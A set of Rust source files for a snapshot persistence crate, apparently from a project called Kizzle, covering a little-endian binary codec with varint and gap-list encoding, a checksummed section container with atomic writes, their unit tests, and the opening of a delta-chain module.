            .map_err(|_| SnapshotError::Corrupt("count exceeds usize".into()))
    }

    /// Read an `f64` from its bit pattern.
    pub fn f64(&mut self) -> Result<f64, SnapshotError> {
        Ok(f64::from_bits(self.u64()?))
    }

    /// Read a bool (strictly 0 or 1).
    pub fn bool(&mut self) -> Result<bool, SnapshotError> {
        match self.u8()? {
            0 => Ok(false),
            1 => Ok(true),
            other => Err(SnapshotError::Corrupt(format!("bool tag {other}"))),
        }
    }

    /// Read a length-prefixed byte string.
    pub fn bytes(&mut self) -> Result<&'a [u8], SnapshotError> {
        let len = self.usize()?;
        self.take(len)
    }

    /// Read a length-prefixed UTF-8 string.
    pub fn str(&mut self) -> Result<&'a str, SnapshotError> {
        std::str::from_utf8(self.bytes()?)
            .map_err(|_| SnapshotError::Corrupt("invalid utf-8 string".into()))
    }

    /// Read a LEB128 varint written by [`Encoder::varint`].
    ///
    /// Truncation mid-varint reads as [`SnapshotError::Truncated`]; a
    /// varint running past 10 bytes or carrying bits beyond `u64` is
    /// [`SnapshotError::Corrupt`] (it cannot have come from the encoder,
    /// which always emits the canonical minimal form).
    pub fn varint(&mut self) -> Result<u64, SnapshotError> {
        let mut value: u64 = 0;
        for shift in (0..64).step_by(7) {
            let byte = self.u8()?;
            let payload = u64::from(byte & 0x7F);
            if shift == 63 && payload > 1 {
                return Err(SnapshotError::Corrupt("varint overflows u64".into()));
            }
            value |= payload << shift;
            if byte & 0x80 == 0 {
                return Ok(value);
            }
        }
        Err(SnapshotError::Corrupt("varint longer than 10 bytes".into()))
    }

    /// Read a varint-encoded `usize`.
    pub fn varint_usize(&mut self) -> Result<usize, SnapshotError> {
        usize::try_from(self.varint()?)
            .map_err(|_| SnapshotError::Corrupt("varint count exceeds usize".into()))
    }

    /// Read a gap list written by [`Encoder::gap_list`] back into absolute
    /// ids. The gap form makes strict ascension structural — a decoded
    /// list is ascending by construction — but accumulated gaps running
    /// past `u32::MAX` are rejected as [`SnapshotError::Corrupt`].
    pub fn gap_list(&mut self) -> Result<Vec<u32>, SnapshotError> {
        let count = self.varint_usize()?;
        // A gap-encoded id is at least one byte; cap the preallocation by
        // what the payload could actually hold so a forged count cannot
        // balloon memory before the reads start failing.
        let mut ids = Vec::with_capacity(count.min(self.remaining()));
        let mut prev: Option<u32> = None;
        for _ in 0..count {
            let raw = self.varint()?;
            let absolute = match prev {
                None => Some(raw),
                // p < 2^32 and the sum is checked, so a forged huge gap
                // surfaces as Corrupt instead of overflowing.
                Some(p) => raw.checked_add(1).and_then(|g| u64::from(p).checked_add(g)),
            };
            let id = absolute
                .and_then(|v| u32::try_from(v).ok())
                .ok_or_else(|| SnapshotError::Corrupt("gap list id exceeds u32".into()))?;
            ids.push(id);
            prev = Some(id);
        }
        Ok(ids)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn primitives_roundtrip() {
        let mut enc = Encoder::new();
        enc.u8(7);
        enc.u16(65_000);
        enc.u32(4_000_000_000);
        enc.u64(u64::MAX);
        enc.i64(-42);
        enc.usize(123_456);
        enc.f64(0.1);
        enc.f64(f64::NEG_INFINITY);
        enc.bool(true);
        enc.bool(false);
        enc.bytes(b"raw\x00bytes");
        enc.str("text");
        let bytes = enc.into_bytes();

        let mut dec = Decoder::new(&bytes);
        assert_eq!(dec.u8().unwrap(), 7);
        assert_eq!(dec.u16().unwrap(), 65_000);
        assert_eq!(dec.u32().unwrap(), 4_000_000_000);
        assert_eq!(dec.u64().unwrap(), u64::MAX);
        assert_eq!(dec.i64().unwrap(), -42);
        assert_eq!(dec.usize().unwrap(), 123_456);
        assert_eq!(dec.f64().unwrap().to_bits(), 0.1f64.to_bits());
        assert_eq!(dec.f64().unwrap(), f64::NEG_INFINITY);
        assert!(dec.bool().unwrap());
        assert!(!dec.bool().unwrap());
        assert_eq!(dec.bytes().unwrap(), b"raw\x00bytes");
        assert_eq!(dec.str().unwrap(), "text");
        dec.finish().unwrap();
    }

    #[test]
    fn truncated_reads_error_not_panic() {
        let mut enc = Encoder::new();
        enc.u64(1);
        let bytes = enc.into_bytes();
        let mut dec = Decoder::new(&bytes[..5]);
        assert!(matches!(dec.u64(), Err(SnapshotError::Truncated)));
        // A byte-string length pointing past the end is truncation too.
        let mut enc = Encoder::new();
        enc.usize(1_000);
        let bytes = enc.into_bytes();
        let mut dec = Decoder::new(&bytes);
        assert!(matches!(dec.bytes(), Err(SnapshotError::Truncated)));
    }

    #[test]
    fn bad_tags_are_corrupt() {
        let mut dec = Decoder::new(&[9]);
        assert!(matches!(dec.bool(), Err(SnapshotError::Corrupt(_))));
        let mut enc = Encoder::new();
        enc.bytes(&[0xFF, 0xFE]);
        let bytes = enc.into_bytes();
        let mut dec = Decoder::new(&bytes);
        assert!(matches!(dec.str(), Err(SnapshotError::Corrupt(_))));
    }

    #[test]
    fn varints_roundtrip_at_every_width() {
        let values = [
            0u64,
            1,
            0x7F,
            0x80,
            300,
            u64::from(u32::MAX),
            u64::MAX - 1,
            u64::MAX,
        ];
        let mut enc = Encoder::new();
        for &v in &values {
            enc.varint(v);
        }
        let bytes = enc.into_bytes();
        let mut dec = Decoder::new(&bytes);
        for &v in &values {
            assert_eq!(dec.varint().unwrap(), v);
        }
        dec.finish().unwrap();
        // Width sanity: one byte below 0x80, ten at the top.
        let mut enc = Encoder::new();
        enc.varint(0x7F);
        assert_eq!(enc.len(), 1);
        let mut enc = Encoder::new();
        enc.varint(u64::MAX);
        assert_eq!(enc.len(), 10);
    }

    #[test]
    fn varint_truncation_and_overflow_are_clean_errors() {
        // Continuation bit set on the final byte: truncated mid-varint.
        let mut dec = Decoder::new(&[0x80, 0x80]);
        assert!(matches!(dec.varint(), Err(SnapshotError::Truncated)));
        // Ten continuation bytes never terminate a u64.
        let mut dec = Decoder::new(&[0x80; 11]);
        assert!(matches!(dec.varint(), Err(SnapshotError::Corrupt(_))));
        // Tenth byte carrying bits beyond u64.
        let mut overlong = vec![0xFF; 9];
        overlong.push(0x02);
        let mut dec = Decoder::new(&overlong);
        assert!(matches!(dec.varint(), Err(SnapshotError::Corrupt(_))));
    }

    #[test]
    fn gap_lists_roundtrip() {
        let cases: Vec<Vec<u32>> = vec![
            vec![],
            vec![0],
            vec![42],
            vec![u32::MAX],
            vec![0, 1, 2, 3, 4, 5],
            vec![0, u32::MAX],
            vec![7, 9, 100, 101, 102, 4_000_000_000],
        ];
        for ids in &cases {
            let mut enc = Encoder::new();
            enc.gap_list(ids);
            let bytes = enc.into_bytes();
            let mut dec = Decoder::new(&bytes);
            assert_eq!(&dec.gap_list().unwrap(), ids, "case {ids:?}");
            dec.finish().unwrap();
        }
        // A dense run costs ~1 byte per id after the first.
        let dense: Vec<u32> = (1000..2000).collect();
        let mut enc = Encoder::new();
        enc.gap_list(&dense);
        assert!(enc.len() < 1100, "dense run took {} bytes", enc.len());
    }

    #[test]
    fn gap_list_rejects_forged_payloads_without_panicking() {
        // An id pushed past u32 by its gap.
        let mut enc = Encoder::new();
        enc.varint_usize(2);
        enc.varint(u64::from(u32::MAX));
        enc.varint(0); // gap of 1 overflows u32
        let bytes = enc.into_bytes();
        let mut dec = Decoder::new(&bytes);
        assert!(matches!(dec.gap_list(), Err(SnapshotError::Corrupt(_))));
        // A count larger than the payload reads as truncation.
        let mut enc = Encoder::new();
        enc.varint_usize(1_000_000);
        let bytes = enc.into_bytes();
        let mut dec = Decoder::new(&bytes);
        assert!(matches!(dec.gap_list(), Err(SnapshotError::Truncated)));
    }

    #[test]
    #[should_panic(expected = "strictly ascending")]
    fn gap_list_panics_on_unsorted_input() {
        let mut enc = Encoder::new();
        enc.gap_list(&[3, 3]);
    }

    #[test]
    fn finish_rejects_trailing_bytes() {
        let mut enc = Encoder::new();
        enc.u8(1);
        enc.u8(2);
        let bytes = enc.into_bytes();
        let mut dec = Decoder::new(&bytes);
        let _ = dec.u8().unwrap();
        assert!(matches!(dec.finish(), Err(SnapshotError::Corrupt(_))));
    }
}
