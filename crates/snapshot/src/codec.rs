//! Explicit little-endian binary codec.
//!
//! Every snapshot payload is written through [`Encoder`] and read back
//! through [`Decoder`] — plain, position-free little-endian primitives
//! with length-prefixed byte strings. No `serde`: the `vendor/serde` stub
//! this workspace carries has no binary backend, and a hand-rolled codec
//! keeps the on-disk layout self-evident and stable across refactors of
//! the in-memory types.
//!
//! Conventions:
//!
//! * All integers are little-endian, fixed width.
//! * `usize` values travel as `u64` (a snapshot written on a 64-bit box
//!   loads on any box; counts beyond `u32::MAX` fail decode explicitly).
//! * `f64` travels as its IEEE-754 bit pattern, so round-trips are exact.
//! * Byte strings and UTF-8 strings are `u64` length followed by payload.
//! * Options are a `u8` tag (0/1) followed by the value when present.

use crate::SnapshotError;

/// Append-only little-endian writer.
#[derive(Debug, Default)]
pub struct Encoder {
    buf: Vec<u8>,
}

impl Encoder {
    /// Create an empty encoder.
    #[must_use]
    pub fn new() -> Self {
        Encoder::default()
    }

    /// The bytes written so far.
    #[must_use]
    pub fn into_bytes(self) -> Vec<u8> {
        self.buf
    }

    /// Number of bytes written so far.
    #[must_use]
    pub fn len(&self) -> usize {
        self.buf.len()
    }

    /// True if nothing has been written.
    #[must_use]
    pub fn is_empty(&self) -> bool {
        self.buf.is_empty()
    }

    /// Write one byte.
    pub fn u8(&mut self, v: u8) {
        self.buf.push(v);
    }

    /// Write a `u16`.
    pub fn u16(&mut self, v: u16) {
        self.buf.extend_from_slice(&v.to_le_bytes());
    }

    /// Write a `u32`.
    pub fn u32(&mut self, v: u32) {
        self.buf.extend_from_slice(&v.to_le_bytes());
    }

    /// Write a `u64`.
    pub fn u64(&mut self, v: u64) {
        self.buf.extend_from_slice(&v.to_le_bytes());
    }

    /// Write an `i64`.
    pub fn i64(&mut self, v: i64) {
        self.buf.extend_from_slice(&v.to_le_bytes());
    }

    /// Write a `usize` as a `u64`.
    pub fn usize(&mut self, v: usize) {
        self.u64(v as u64);
    }

    /// Write an `f64` as its exact bit pattern.
    pub fn f64(&mut self, v: f64) {
        self.u64(v.to_bits());
    }

    /// Write a bool as one byte (0/1).
    pub fn bool(&mut self, v: bool) {
        self.u8(u8::from(v));
    }

    /// Write a length-prefixed byte string.
    pub fn bytes(&mut self, v: &[u8]) {
        self.usize(v.len());
        self.buf.extend_from_slice(v);
    }

    /// Write a length-prefixed UTF-8 string.
    pub fn str(&mut self, v: &str) {
        self.bytes(v.as_bytes());
    }
}

/// Cursor-based little-endian reader over a payload slice.
///
/// Every read is bounds-checked; running off the end yields
/// [`SnapshotError::Truncated`] rather than a panic, so a corrupted
/// payload always surfaces as a recoverable error.
#[derive(Debug)]
pub struct Decoder<'a> {
    data: &'a [u8],
    pos: usize,
}

impl<'a> Decoder<'a> {
    /// Start decoding at the beginning of `data`.
    #[must_use]
    pub fn new(data: &'a [u8]) -> Self {
        Decoder { data, pos: 0 }
    }

    /// Bytes not yet consumed.
    #[must_use]
    pub fn remaining(&self) -> usize {
        self.data.len() - self.pos
    }

    /// Assert the payload was consumed exactly — trailing garbage means
    /// the payload was not written by the matching encoder.
    pub fn finish(self) -> Result<(), SnapshotError> {
        if self.remaining() == 0 {
            Ok(())
        } else {
            Err(SnapshotError::Corrupt(format!(
                "{} trailing bytes after decode",
                self.remaining()
            )))
        }
    }

    fn take(&mut self, n: usize) -> Result<&'a [u8], SnapshotError> {
        if self.remaining() < n {
            return Err(SnapshotError::Truncated);
        }
        let slice = &self.data[self.pos..self.pos + n];
        self.pos += n;
        Ok(slice)
    }

    /// Read one byte.
    pub fn u8(&mut self) -> Result<u8, SnapshotError> {
        Ok(self.take(1)?[0])
    }

    /// Read a `u16`.
    pub fn u16(&mut self) -> Result<u16, SnapshotError> {
        Ok(u16::from_le_bytes(self.take(2)?.try_into().expect("2 bytes")))
    }

    /// Read a `u32`.
    pub fn u32(&mut self) -> Result<u32, SnapshotError> {
        Ok(u32::from_le_bytes(self.take(4)?.try_into().expect("4 bytes")))
    }

    /// Read a `u64`.
    pub fn u64(&mut self) -> Result<u64, SnapshotError> {
        Ok(u64::from_le_bytes(self.take(8)?.try_into().expect("8 bytes")))
    }

    /// Read an `i64`.
    pub fn i64(&mut self) -> Result<i64, SnapshotError> {
        Ok(i64::from_le_bytes(self.take(8)?.try_into().expect("8 bytes")))
    }

    /// Read a `usize` written as `u64`.
    pub fn usize(&mut self) -> Result<usize, SnapshotError> {
        usize::try_from(self.u64()?)
            .map_err(|_| SnapshotError::Corrupt("count exceeds usize".into()))
    }

    /// Read an `f64` from its bit pattern.
    pub fn f64(&mut self) -> Result<f64, SnapshotError> {
        Ok(f64::from_bits(self.u64()?))
    }

    /// Read a bool (strictly 0 or 1).
    pub fn bool(&mut self) -> Result<bool, SnapshotError> {
        match self.u8()? {
            0 => Ok(false),
            1 => Ok(true),
            other => Err(SnapshotError::Corrupt(format!("bool tag {other}"))),
        }
    }

    /// Read a length-prefixed byte string.
    pub fn bytes(&mut self) -> Result<&'a [u8], SnapshotError> {
        let len = self.usize()?;
        self.take(len)
    }

    /// Read a length-prefixed UTF-8 string.
    pub fn str(&mut self) -> Result<&'a str, SnapshotError> {
        std::str::from_utf8(self.bytes()?)
            .map_err(|_| SnapshotError::Corrupt("invalid utf-8 string".into()))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn primitives_roundtrip() {
        let mut enc = Encoder::new();
        enc.u8(7);
        enc.u16(65_000);
        enc.u32(4_000_000_000);
        enc.u64(u64::MAX);
        enc.i64(-42);
        enc.usize(123_456);
        enc.f64(0.1);
        enc.f64(f64::NEG_INFINITY);
        enc.bool(true);
        enc.bool(false);
        enc.bytes(b"raw\x00bytes");
        enc.str("text");
        let bytes = enc.into_bytes();

        let mut dec = Decoder::new(&bytes);
        assert_eq!(dec.u8().unwrap(), 7);
        assert_eq!(dec.u16().unwrap(), 65_000);
        assert_eq!(dec.u32().unwrap(), 4_000_000_000);
        assert_eq!(dec.u64().unwrap(), u64::MAX);
        assert_eq!(dec.i64().unwrap(), -42);
        assert_eq!(dec.usize().unwrap(), 123_456);
        assert_eq!(dec.f64().unwrap().to_bits(), 0.1f64.to_bits());
        assert_eq!(dec.f64().unwrap(), f64::NEG_INFINITY);
        assert!(dec.bool().unwrap());
        assert!(!dec.bool().unwrap());
        assert_eq!(dec.bytes().unwrap(), b"raw\x00bytes");
        assert_eq!(dec.str().unwrap(), "text");
        dec.finish().unwrap();
    }

    #[test]
    fn truncated_reads_error_not_panic() {
        let mut enc = Encoder::new();
        enc.u64(1);
        let bytes = enc.into_bytes();
        let mut dec = Decoder::new(&bytes[..5]);
        assert!(matches!(dec.u64(), Err(SnapshotError::Truncated)));
        // A byte-string length pointing past the end is truncation too.
        let mut enc = Encoder::new();
        enc.usize(1_000);
        let bytes = enc.into_bytes();
        let mut dec = Decoder::new(&bytes);
        assert!(matches!(dec.bytes(), Err(SnapshotError::Truncated)));
    }

    #[test]
    fn bad_tags_are_corrupt() {
        let mut dec = Decoder::new(&[9]);
        assert!(matches!(dec.bool(), Err(SnapshotError::Corrupt(_))));
        let mut enc = Encoder::new();
        enc.bytes(&[0xFF, 0xFE]);
        let bytes = enc.into_bytes();
        let mut dec = Decoder::new(&bytes);
        assert!(matches!(dec.str(), Err(SnapshotError::Corrupt(_))));
    }

    #[test]
    fn finish_rejects_trailing_bytes() {
        let mut enc = Encoder::new();
        enc.u8(1);
        enc.u8(2);
        let bytes = enc.into_bytes();
        let mut dec = Decoder::new(&bytes);
        let _ = dec.u8().unwrap();
        assert!(matches!(dec.finish(), Err(SnapshotError::Corrupt(_))));
    }
}
