//! The snapshot container: named, checksummed sections in one file.
//!
//! ## On-disk layout (all integers little-endian)
//!
//! ```text
//! magic            8 bytes   "KIZSNAP1"
//! format version   u32       FORMAT_VERSION
//! section count    u32
//! section × N:
//!   name length    u16
//!   name           UTF-8 bytes
//!   payload length u64
//!   payload CRC-32 u32       over the payload bytes alone
//!   payload        bytes
//! file CRC-32      u32       over every byte before this field
//! ```
//!
//! The design goals, in order:
//!
//! 1. **Detect, never trust.** A truncated file fails the structural walk
//!    or the trailer check; a flipped bit fails a section CRC; a snapshot
//!    from a future format fails the version gate. All of these surface as
//!    [`SnapshotError`] values, not panics.
//! 2. **Degrade per section.** Section CRCs are independent, so a reader
//!    can recover every intact section of a damaged file —
//!    [`Snapshot::section`] reports corruption section-by-section, which
//!    lets the engine loader rebuild only what was actually lost.
//! 3. **Atomic replace.** [`SnapshotBuilder::write_atomic`] goes through a
//!    `.tmp` sibling and a rename, so a crash mid-write leaves the
//!    previous snapshot file untouched.

use crate::{crc32, SnapshotError};
use std::fs;
use std::io::Write;
use std::path::Path;

/// File magic: identifies a Kizzle snapshot regardless of version.
pub const MAGIC: [u8; 8] = *b"KIZSNAP1";

/// Current container format version. Bump on any layout change.
///
/// Version 2 (ISSUE 4): section payloads written by the domain crates
/// switched sorted id runs to varint gap encoding, and snapshot state may
/// span a base→delta chain. Version-1 files still *parse* — the container
/// layout never changed, only the payload encodings — and
/// [`Snapshot::version`] tells the domain decoders which encoding the
/// payloads carry (see [`SectionSource::section_version`](crate::SectionSource::section_version)).
/// Anything outside [`MIN_FORMAT_VERSION`]`..=`[`FORMAT_VERSION`] is
/// refused with [`SnapshotError::VersionSkew`].
pub const FORMAT_VERSION: u32 = 2;

/// Oldest container format version this build still reads. Version 1 is
/// the pre-chain format: identical container layout, but `corpus-store`
/// and `neighbor-index` payloads carry sorted id runs as plain varints
/// rather than gap lists.
pub const MIN_FORMAT_VERSION: u32 = 1;

/// Accumulates named sections and serializes them into one container.
#[derive(Debug, Default)]
pub struct SnapshotBuilder {
    sections: Vec<(String, Vec<u8>)>,
}

impl SnapshotBuilder {
    /// Create an empty builder.
    #[must_use]
    pub fn new() -> Self {
        SnapshotBuilder::default()
    }

    /// Append a named section. Names must be unique within one snapshot.
    ///
    /// # Panics
    ///
    /// Panics if a section with the same name was already added, or if the
    /// name exceeds `u16::MAX` bytes.
    pub fn section(&mut self, name: &str, payload: Vec<u8>) {
        assert!(
            self.sections.iter().all(|(n, _)| n != name),
            "duplicate snapshot section {name:?}"
        );
        assert!(name.len() <= usize::from(u16::MAX), "section name too long");
        self.sections.push((name.to_string(), payload));
    }

    /// Serialize the container to bytes.
    #[must_use]
    pub fn to_bytes(&self) -> Vec<u8> {
        self.to_bytes_with_version(FORMAT_VERSION)
    }

    /// Serialize with an explicit format version stamped in the header.
    ///
    /// Exists so the v1→v2 upgrade tests can author byte-faithful
    /// version-1 files; production writers always go through
    /// [`SnapshotBuilder::to_bytes`].
    #[doc(hidden)]
    #[must_use]
    pub fn to_bytes_with_version(&self, version: u32) -> Vec<u8> {
        let mut out = Vec::new();
        out.extend_from_slice(&MAGIC);
        out.extend_from_slice(&version.to_le_bytes());
        out.extend_from_slice(
            &u32::try_from(self.sections.len())
                .expect("u32 sections")
                .to_le_bytes(),
        );
        for (name, payload) in &self.sections {
            out.extend_from_slice(
                &u16::try_from(name.len())
                    .expect("checked in section()")
                    .to_le_bytes(),
            );
            out.extend_from_slice(name.as_bytes());
            out.extend_from_slice(&(payload.len() as u64).to_le_bytes());
            out.extend_from_slice(&crc32(payload).to_le_bytes());
            out.extend_from_slice(payload);
        }
        let file_crc = crc32(&out);
        out.extend_from_slice(&file_crc.to_le_bytes());
        out
    }

    /// Serialize and write atomically: `.tmp` sibling, sync, rename.
    pub fn write_atomic(&self, path: &Path) -> std::io::Result<()> {
        write_atomic(path, &self.to_bytes())
    }
}

/// Write bytes to `path` atomically via a `.tmp` sibling and a rename.
pub fn write_atomic(path: &Path, bytes: &[u8]) -> std::io::Result<()> {
    let mut tmp = path.as_os_str().to_owned();
    tmp.push(".tmp");
    let tmp = std::path::PathBuf::from(tmp);
    {
        let mut file = fs::File::create(&tmp)?;
        file.write_all(bytes)?;
        file.sync_all()?;
    }
    fs::rename(&tmp, path)
}

/// One parsed section: payload plus its integrity verdict.
#[derive(Debug)]
struct ParsedSection {
    name: String,
    payload: Vec<u8>,
    crc_ok: bool,
}

/// A parsed snapshot container.
///
/// Parsing is *structural*: magic and version are enforced up front, then
/// the section table is walked as far as the file allows. Section payloads
/// are checksum-verified individually on access, so one damaged section
/// does not take the intact ones down with it.
#[derive(Debug)]
pub struct Snapshot {
    sections: Vec<ParsedSection>,
    /// Every declared section was present in full.
    complete: bool,
    /// The whole-file trailer checksum verified.
    file_crc_ok: bool,
    /// The stored trailer checksum, when the file was long enough to
    /// carry one — the chain layer binds each delta to this value of its
    /// predecessor.
    trailer_crc: Option<u32>,
    /// Format version stamped in the header (within the supported range,
    /// or parsing would have refused the file).
    version: u32,
}

impl Snapshot {
    /// Read and parse a snapshot file.
    pub fn read(path: &Path) -> Result<Self, SnapshotError> {
        let bytes = fs::read(path)?;
        Snapshot::from_bytes(&bytes)
    }

    /// Parse a snapshot from bytes.
    ///
    /// Fails outright only when the header is unusable (wrong magic,
    /// unsupported version, or too short to carry a header). Structural
    /// damage further in leaves a partial snapshot with
    /// [`Snapshot::is_complete`] false and the surviving sections
    /// readable.
    pub fn from_bytes(bytes: &[u8]) -> Result<Self, SnapshotError> {
        if bytes.len() < MAGIC.len() + 8 {
            // Too short even for magic + version + count: if the prefix
            // matches the magic it is a truncated snapshot, otherwise it
            // is not a snapshot at all.
            return if bytes.starts_with(&MAGIC) || MAGIC.starts_with(bytes) {
                Err(SnapshotError::Truncated)
            } else {
                Err(SnapshotError::BadMagic)
            };
        }
        if bytes[..MAGIC.len()] != MAGIC {
            return Err(SnapshotError::BadMagic);
        }
        let version = u32::from_le_bytes(bytes[8..12].try_into().expect("4 bytes"));
        if !(MIN_FORMAT_VERSION..=FORMAT_VERSION).contains(&version) {
            return Err(SnapshotError::VersionSkew {
                found: version,
                expected: FORMAT_VERSION,
            });
        }
        let declared = u32::from_le_bytes(bytes[12..16].try_into().expect("4 bytes")) as usize;

        // The trailer covers everything before itself; a file shorter than
        // its declared structure simply fails the walk below.
        let trailer_crc = (bytes.len() >= 4)
            .then(|| u32::from_le_bytes(bytes[bytes.len() - 4..].try_into().expect("4 bytes")));
        let file_crc_ok =
            trailer_crc.is_some_and(|stored| crc32(&bytes[..bytes.len() - 4]) == stored);

        let mut sections = Vec::new();
        let mut pos = 16usize;
        let mut complete = true;
        // The last 4 bytes are the trailer; sections must fit before it.
        let body_end = bytes.len().saturating_sub(4);
        for _ in 0..declared {
            let Some(parsed) = parse_section(bytes, body_end, &mut pos) else {
                complete = false;
                break;
            };
            sections.push(parsed);
        }
        if pos != body_end {
            // Trailing garbage between the last section and the trailer.
            complete = false;
        }
        Ok(Snapshot {
            sections,
            complete,
            file_crc_ok,
            trailer_crc,
            version,
        })
    }

    /// Format version this file was written under. Payload encodings vary
    /// by version — domain decoders branch on this (via
    /// [`SectionSource::section_version`](crate::SectionSource::section_version)),
    /// which is what lets a pre-chain v1 snapshot resume instead of
    /// forcing a cold rebuild.
    #[must_use]
    pub fn version(&self) -> u32 {
        self.version
    }

    /// True when every declared section parsed and the file trailer
    /// checksum verified — the file is exactly as written.
    #[must_use]
    pub fn is_complete(&self) -> bool {
        self.complete && self.file_crc_ok
    }

    /// The trailer checksum stored in the file, if present. This is the
    /// identity the delta chain binds to: a delta records its
    /// predecessor's trailer and is rejected when they disagree.
    #[must_use]
    pub fn trailer_crc(&self) -> Option<u32> {
        self.trailer_crc
    }

    /// True if a section of this name parsed structurally (its payload
    /// may still fail its checksum — [`Snapshot::section`] decides that).
    #[must_use]
    pub fn has_section(&self, name: &str) -> bool {
        self.sections.iter().any(|s| s.name == name)
    }

    /// Names of the sections that parsed structurally, in file order.
    #[must_use]
    pub fn section_names(&self) -> Vec<&str> {
        self.sections.iter().map(|s| s.name.as_str()).collect()
    }

    /// The payload of a named section, checksum-verified.
    ///
    /// Distinguishes "the section is gone" ([`SnapshotError::SectionMissing`],
    /// also the answer for sections lost to a truncated tail) from "the
    /// section is present but damaged" ([`SnapshotError::ChecksumMismatch`]).
    pub fn section(&self, name: &str) -> Result<&[u8], SnapshotError> {
        match self.sections.iter().find(|s| s.name == name) {
            None => Err(SnapshotError::SectionMissing {
                section: name.to_string(),
            }),
            Some(section) if !section.crc_ok => Err(SnapshotError::ChecksumMismatch {
                section: name.to_string(),
            }),
            Some(section) => Ok(&section.payload),
        }
    }
}

/// Parse one section at `*pos`; `None` when the file ends first.
fn parse_section(bytes: &[u8], body_end: usize, pos: &mut usize) -> Option<ParsedSection> {
    let take = |pos: &mut usize, n: usize| -> Option<&[u8]> {
        // checked: a crafted payload length near u64::MAX must read as
        // truncation, not wrap around and panic on the slice below.
        let end = pos.checked_add(n)?;
        if end > body_end {
            return None;
        }
        let slice = &bytes[*pos..end];
        *pos = end;
        Some(slice)
    };
    let name_len = u16::from_le_bytes(take(pos, 2)?.try_into().expect("2 bytes")) as usize;
    let name = std::str::from_utf8(take(pos, name_len)?).ok()?.to_string();
    let payload_len = u64::from_le_bytes(take(pos, 8)?.try_into().expect("8 bytes"));
    let payload_len = usize::try_from(payload_len).ok()?;
    let stored_crc = u32::from_le_bytes(take(pos, 4)?.try_into().expect("4 bytes"));
    let payload = take(pos, payload_len)?.to_vec();
    let crc_ok = crc32(&payload) == stored_crc;
    Some(ParsedSection {
        name,
        payload,
        crc_ok,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn demo_snapshot() -> Vec<u8> {
        let mut builder = SnapshotBuilder::new();
        builder.section("alpha", b"first payload".to_vec());
        builder.section("beta", b"second, longer payload with more bytes".to_vec());
        builder.section("empty", Vec::new());
        builder.to_bytes()
    }

    #[test]
    fn roundtrip_preserves_sections() {
        let bytes = demo_snapshot();
        let snap = Snapshot::from_bytes(&bytes).unwrap();
        assert!(snap.is_complete());
        assert_eq!(snap.section_names(), vec!["alpha", "beta", "empty"]);
        assert_eq!(snap.section("alpha").unwrap(), b"first payload");
        assert_eq!(snap.section("empty").unwrap(), b"");
        assert!(matches!(
            snap.section("gamma"),
            Err(SnapshotError::SectionMissing { .. })
        ));
    }

    #[test]
    fn bad_magic_is_rejected() {
        let mut bytes = demo_snapshot();
        bytes[0] ^= 0xFF;
        assert!(matches!(
            Snapshot::from_bytes(&bytes),
            Err(SnapshotError::BadMagic)
        ));
        assert!(matches!(
            Snapshot::from_bytes(b"not a snapshot at all"),
            Err(SnapshotError::BadMagic)
        ));
    }

    #[test]
    fn version_skew_is_rejected() {
        let mut bytes = demo_snapshot();
        bytes[8] = 0xEE; // future version
        assert!(matches!(
            Snapshot::from_bytes(&bytes),
            Err(SnapshotError::VersionSkew { found, .. }) if found != FORMAT_VERSION
        ));
    }

    #[test]
    fn flipped_payload_byte_fails_only_that_section() {
        let full = demo_snapshot();
        let snap = Snapshot::from_bytes(&full).unwrap();
        let beta_payload = snap.section("beta").unwrap().to_vec();
        // Find beta's payload in the raw bytes and flip a bit of it.
        let at = full
            .windows(beta_payload.len())
            .position(|w| w == beta_payload)
            .expect("payload present verbatim");
        let mut damaged = full.clone();
        damaged[at] ^= 0x01;

        let snap = Snapshot::from_bytes(&damaged).unwrap();
        assert!(!snap.is_complete(), "file checksum must catch the flip");
        assert_eq!(snap.section("alpha").unwrap(), b"first payload");
        assert!(matches!(
            snap.section("beta"),
            Err(SnapshotError::ChecksumMismatch { .. })
        ));
        assert_eq!(snap.section("empty").unwrap(), b"");
    }

    #[test]
    fn truncation_loses_the_tail_but_keeps_the_head() {
        let full = demo_snapshot();
        // Cut inside beta's payload: alpha stays intact; beta's truncated
        // bytes can no longer be parsed (and must not be trusted anyway).
        let cut = full.len() - 30;
        let snap = Snapshot::from_bytes(&full[..cut]).unwrap();
        assert!(!snap.is_complete());
        assert_eq!(snap.section("alpha").unwrap(), b"first payload");
        assert!(snap.section("beta").is_err());
        // Truncating into the header is fatal.
        assert!(matches!(
            Snapshot::from_bytes(&full[..6]),
            Err(SnapshotError::Truncated)
        ));
    }

    #[test]
    fn write_atomic_replaces_and_leaves_no_tmp() {
        let dir = std::env::temp_dir().join(format!("kizzle-snapshot-test-{}", std::process::id()));
        fs::create_dir_all(&dir).unwrap();
        let path = dir.join("state.snap");

        let mut builder = SnapshotBuilder::new();
        builder.section("v", b"one".to_vec());
        builder.write_atomic(&path).unwrap();
        let first = Snapshot::read(&path).unwrap();
        assert_eq!(first.section("v").unwrap(), b"one");

        let mut builder = SnapshotBuilder::new();
        builder.section("v", b"two".to_vec());
        builder.write_atomic(&path).unwrap();
        let second = Snapshot::read(&path).unwrap();
        assert_eq!(second.section("v").unwrap(), b"two");

        let leftovers: Vec<_> = fs::read_dir(&dir)
            .unwrap()
            .filter_map(|e| e.ok())
            .filter(|e| e.path().extension().is_some_and(|x| x == "tmp"))
            .collect();
        assert!(leftovers.is_empty(), "tmp file left behind");
        fs::remove_dir_all(&dir).unwrap();
    }

    #[test]
    #[should_panic(expected = "duplicate snapshot section")]
    fn duplicate_section_names_panic() {
        let mut builder = SnapshotBuilder::new();
        builder.section("x", Vec::new());
        builder.section("x", Vec::new());
    }
}
