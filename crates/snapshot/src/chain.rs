//! Base→delta snapshot chains: incremental day-over-day persistence.
//!
//! A full snapshot of the warm engine rewrites every section every day,
//! but on heavily overlapping daily corpora most sections do not change —
//! the day's churn touches the store and index, while e.g. the reference
//! corpus often stays byte-identical. A **chain** persists state as one
//! full *base* file plus a sequence of *delta* files, each holding only
//! the sections whose content fingerprint (CRC-32 + length) changed since
//! the previous save. The logical snapshot is the latest-wins overlay of
//! the whole chain.
//!
//! ## On-disk shape
//!
//! Every chain file is an ordinary [`Snapshot`]
//! container. A delta additionally carries a [`DELTA_META_SECTION`]
//! recording its 1-based sequence number and the trailer CRC-32 of its
//! predecessor, so a delta can never be applied to a base it was not
//! written against (compaction rewrites the base, orphaning old deltas).
